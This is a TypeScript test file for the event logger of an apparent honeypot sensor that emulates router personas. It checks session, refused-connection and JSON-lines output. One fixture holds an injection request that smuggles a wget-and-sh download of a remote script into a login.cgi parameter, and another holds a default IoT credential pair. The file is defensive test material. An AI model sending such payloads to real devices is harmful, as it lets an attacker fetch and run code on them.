import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { EventLog, eventOf, firstLine } from "./events.js";
import { testProbe, testSession } from "./fixtures.js";
import type { RecordedConnection } from "./recorder.js";

const enc = new TextEncoder();
const sess = (payload: string) =>
  testSession(payload, {
    id: "abc",
    dport: 8080,
    start: Date.UTC(2018, 5, 15, 10) * 1000,
    serverBytes: new Uint8Array(3),
    serverBytesTotal: 3,
    serverPackets: 1,
  });

const DSL =
  "GET /login.cgi?cli=aa%20aa%27;wget%20http://198.51.100.9/r%20-O%20-%3E%20/tmp/r;sh%20/tmp/r%27$ HTTP/1.1\r\nHost: x\r\n\r\n";

describe("sensor events", () => {
  it("carries the session's facts, real IoC values and a printable payload", () => {
    const r: RecordedConnection = {
      persona: "dlink-dsl",
      listenerPort: 8080,
      session: sess(`${DSL}\x00\x1b[2J`),
      alerts: [],
      iocs: [{ type: "url", value: "http://198.51.100.9/r" }],
      facts: {
        credentials: [{ user: "root", password: "xc3511", accepted: true }],
        commands: ["sh"],
      },
    };
    const e = eventOf("hp-1", r);
    expect(e).toMatchObject({
      ts: "2018-06-15T10:00:00.000Z",
      event: "session",
      sensor: "hp-1",
      persona: "dlink-dsl",
      src: "198.51.100.7",
      dport: 8080,
      bytes: DSL.length + 5,
      serverBytes: 3,
      close: "fin",
      iocs: [{ type: "url", value: "http://198.51.100.9/r" }],
      credentials: [{ user: "root", password: "xc3511", accepted: true }],
      commands: ["sh"],
    });
    expect(e.request).toBe(DSL.split("\r\n")[0]);
    expect(e.payload?.endsWith("\\r\\n\\r\\n\\x00\\x1b[2J")).toBe(true);
  });

  it("marks refused connections with their limit", () => {
    const e = eventOf("hp-1", {
      persona: "generic",
      listenerPort: 5555,
      limit: "per_source_rate",
      probe: testProbe({ srcKey: 1, sport: 1, dport: 5555, ts: 0 }),
      alerts: [],
      iocs: [],
    });
    expect(e.event).toBe("refused");
    expect(e.limit).toBe("per_source_rate");
  });

  it("firstLine stops at the line end and at 200 bytes", () => {
    expect(firstLine(enc.encode("GET / HTTP/1.1\r\nHost: a"))).toBe("GET / HTTP/1.1");
    expect(firstLine(enc.encode("A".repeat(500)))).toHaveLength(200);
  });

  it("appends one JSON object per line", async () => {
    const dir = mkdtempSync(join(tmpdir(), "portent-ev-"));
    try {
      const log = new EventLog(join(dir, "e.jsonl"), "hp-1", () => {});
      const r = { persona: "gpon", listenerPort: 8081, session: sess("x"), alerts: [], iocs: [] };
      log.write(r);
      log.write(r);
      await log.close();
      const lines = readFileSync(join(dir, "e.jsonl"), "utf8").trim().split("\n");
      expect(lines.map((l) => JSON.parse(l).persona)).toEqual(["gpon", "gpon"]);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
